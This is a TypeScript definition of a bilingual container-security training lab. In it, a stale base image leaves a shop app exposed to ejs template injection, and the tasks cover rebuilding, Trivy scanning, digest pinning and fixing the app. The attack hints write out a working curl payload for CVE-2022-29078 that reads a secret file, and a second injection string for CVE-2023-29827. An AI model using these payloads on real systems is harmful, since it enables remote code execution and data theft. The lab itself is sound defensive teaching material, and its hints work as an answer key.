import type { Lab } from '#lab';
import { messages } from './messages.ts';

export default {
  label: 'L4.1',
  title: { de: 'Abgestandenes Image', en: 'Stale Image' },
  summary: {
    de: 'Das Basis-Image ist längst repariert. Der Hafenladen weiß nichts davon und führt Code aus, den ihm jemand in die Adresse schreibt.',
    en: 'The base image was mended long ago. The harbour shop knows nothing of it and runs code that somebody writes into the address.',
  },
  minutes: 45,
  difficulty: 2,
  needs: [],
  checkLimitSeconds: 40,
  attack: {
    title: { de: 'Lies durch CVE-2022-29078 die Datei /app/secret/flag des Ladens', en: 'Read the shop’s file /app/secret/flag through CVE-2022-29078' },
    points: 30,
    hints: [
      {
        de: 'Die App reicht alle Parameter der Adresse an die Template-Engine ejs weiter, auch solche, die sie als Einstellungen versteht: `settings[view options][…]`.',
        en: 'The app hands all parameters of the address to the template engine ejs, including those that it takes for settings: `settings[view options][…]`.',
      },
      {
        de: 'Die Einstellung heißt outputFunctionName. ejs 3.1.6 setzt ihren Wert ungeprüft in den Code ein, den es daraus baut: `var WERT = __append;`. Ein Semikolon beendet diese Anweisung, danach kommt deine.',
        en: 'The setting is called outputFunctionName. ejs 3.1.6 puts its value unchecked into the code that it builds: `var VALUE = __append;`. A semicolon ends that statement; yours comes next.',
      },
      {
        de: "`curl -G http://dockerhost:8080/ --data-urlencode \"settings[view%20options][outputFunctionName]=x;return process.mainModule.require('fs').readFileSync('/app/secret/flag','utf8');s\"`",
        en: "`curl -G http://dockerhost:8080/ --data-urlencode \"settings[view%20options][outputFunctionName]=x;return process.mainModule.require('fs').readFileSync('/app/secret/flag','utf8');s\"`",
      },
    ],
  },
  tasks: {
    'fresh-base': {
      title: { de: 'Der Laden läuft auf der neuesten Ausgabe des Basis-Images', en: 'The shop runs on the latest edition of the base image' },
      points: 25,
      hints: [
        {
          de: 'Vergleiche, was dieser Host unter registry.lab:5000/platform/node-web:1 kennt (`docker image inspect`), mit dem, was die Registry darunter anbietet (`docker pull` zeigt den Digest).',
          en: 'Compare what this host knows as registry.lab:5000/platform/node-web:1 (`docker image inspect`) with what the registry offers under that name (`docker pull` shows the digest).',
        },
        {
          de: '`docker build` nimmt ein Basis-Image, das schon da ist, und fragt die Registry nur mit `--pull`. Und ein Container behält das Image, aus dem er erzeugt wurde: `docker restart` ändert daran nichts.',
          en: '`docker build` takes a base image that is already there and asks the registry only with `--pull`. And a container keeps the image it was created from: `docker restart` changes nothing about that.',
        },
        {
          de: '`cd /srv/shop; docker build --pull -t shop/web:1.0.1 .`, dann `docker rm -f shop` und run.sh mit der neuen Version.',
          en: '`cd /srv/shop; docker build --pull -t shop/web:1.0.1 .`, then `docker rm -f shop`, and run.sh with the new version.',
        },
      ],
    },
    'scan-clean': {
      title: { de: 'Trivy findet keine schwere Lücke mehr, für die es eine Korrektur gibt', en: 'Trivy finds no more serious vulnerability that has a fix' },
      points: 25,
      hints: [
        {
          de: '`trivy image --scanners vuln shop/web:1.0` zeigt Paket, Lücke und die Version, in der sie behoben ist.',
          en: '`trivy image --scanners vuln shop/web:1.0` shows package, vulnerability, and the version in which it is fixed.',
        },
        {
          de: 'Beide Pakete stammen aus dem Basis-Image. Eine Liste ignorierter Lücken ändert nichts an dem, was läuft: Hier zählt, was im Container des Ladens liegt.',
          en: 'Both packages come from the base image. A list of ignored vulnerabilities does not change what runs: what counts here is what lies in the shop’s container.',
        },
        {
          de: 'Baue mit `--pull` neu und scanne das Ergebnis, bevor du es startest: `trivy image --scanners vuln --severity HIGH,CRITICAL --ignore-unfixed --exit-code 1 shop/web:1.0.1`.',
          en: 'Build again with `--pull` and scan the result before you start it: `trivy image --scanners vuln --severity HIGH,CRITICAL --ignore-unfixed --exit-code 1 shop/web:1.0.1`.',
        },
      ],
    },
    'exploit-dead': {
      title: { de: 'CVE-2022-29078 führt zu nichts mehr', en: 'CVE-2022-29078 leads nowhere any more' },
      points: 20,
      hints: [
        {
          de: 'Wiederhole den Angriff gegen den neuen Container. Antwortet er mit einem Fehler statt mit der Flag, ist diese Lücke zu.',
          en: 'Repeat the attack against the new container. If it answers with an error instead of the flag, this hole is closed.',
        },
        {
          de: 'Ein Filter auf das Wort outputFunctionName hilft nicht: In einer Adresse lässt sich jeder Buchstabe auch anders schreiben (`%6f` ist ein o).',
          en: 'A filter for the word outputFunctionName does not help: in an address every letter can be written in another way (`%6f` is an o).',
        },
        {
          de: 'ejs prüft den Wert ab 3.1.7. Es kommt mit dem neuen Basis-Image; sieh nach, dass die App keine eigene alte Kopie mitbringt: `docker exec shop find / -path "*/ejs/package.json" -exec grep version {} +`.',
          en: 'ejs checks the value from 3.1.7 on. It comes with the new base image; see that the app does not bring an old copy of its own: `docker exec shop find / -path "*/ejs/package.json" -exec grep version {} +`.',
        },
      ],
    },
    'service-works': {
      title: { de: 'Der neue Laden grüßt, kennt die alten Bestellungen und nimmt neue an', en: 'The new shop greets, knows the old orders and takes new ones' },
      points: 15,
      hints: [
        {
          de: '`cat /srv/shop/run.sh`: Welches Volume hatte der alte Container?',
          en: '`cat /srv/shop/run.sh`: which volume did the old container have?',
        },
        {
          de: '`docker run -d --name shop --label lab.role=shop -p 8080:80 -v shopdata:/data -v /srv/shop-secret:/app/secret:ro shop/web:1.0.1`',
          en: '`docker run -d --name shop --label lab.role=shop -p 8080:80 -v shopdata:/data -v /srv/shop-secret:/app/secret:ro shop/web:1.0.1`',
        },
      ],
    },
    versioned: {
      title: { de: 'Neue Version, Weg zurück, und es steht fest, worauf gebaut wurde', en: 'A new version, a way back, and it is settled what was built on' },
      points: 15,
      hints: [
        {
          de: 'Ein Tag ist ein Zettel, den jeder umkleben kann. Ein Digest (`sha256:…`) ist der Inhalt selbst.',
          en: 'A tag is a note that anybody can stick elsewhere. A digest (`sha256:…`) is the content itself.',
        },
        {
          de: 'Nenne das neue Image shop/web:1.0.1 und lass shop/web:1.0 in Ruhe. In die FROM-Zeile gehört der Digest: `FROM registry.lab:5000/platform/node-web:1@sha256:…`.',
          en: 'Call the new image shop/web:1.0.1 and leave shop/web:1.0 alone. The digest belongs into the FROM line: `FROM registry.lab:5000/platform/node-web:1@sha256:…`.',
        },
        {
          de: '`docker pull registry.lab:5000/platform/node-web:1` nennt den Digest. Baue danach mit der neuen FROM-Zeile noch einmal.',
          en: '`docker pull registry.lab:5000/platform/node-web:1` names the digest. Then build once more with the new FROM line.',
        },
      ],
    },
    'app-mended': {
      title: {
        de: 'Die App gibt Fremden die Optionen von ejs nicht mehr in die Hand',
        en: 'The app no longer lets strangers set the options of ejs',
      },
      points: 20,
      bonus: true,
      hints: [
        {
          de: 'Versuch es nach dem Update so: `settings[view options][client]=true` und `settings[view options][escapeFunction]=1;return 6*7`. Die Macher von ejs sehen darin keinen Fehler ihrer Bibliothek (CVE-2023-29827), sondern in Apps wie dieser.',
          en: 'Try this after the update: `settings[view options][client]=true` and `settings[view options][escapeFunction]=1;return 6*7`. The makers of ejs do not call that a flaw of their library (CVE-2023-29827) but one of apps like this.',
        },
        {
          de: 'In /srv/shop/app/server.js steht `...request.query`: Damit landet die ganze Adresse im Template. Es braucht nur einen Wert daraus.',
          en: '/srv/shop/app/server.js says `...request.query`: that is how the whole address gets into the template. It needs one value of it only.',
        },
        {
          de: "Schreibe `response.render('shop', { guest: request.query.guest ?? 'Gast' })`, baue und starte neu.",
          en: "Write `response.render('shop', { guest: request.query.guest ?? 'Gast' })`, build and start again.",
        },
      ],
    },
  },
  messages,
} as const satisfies Lab;
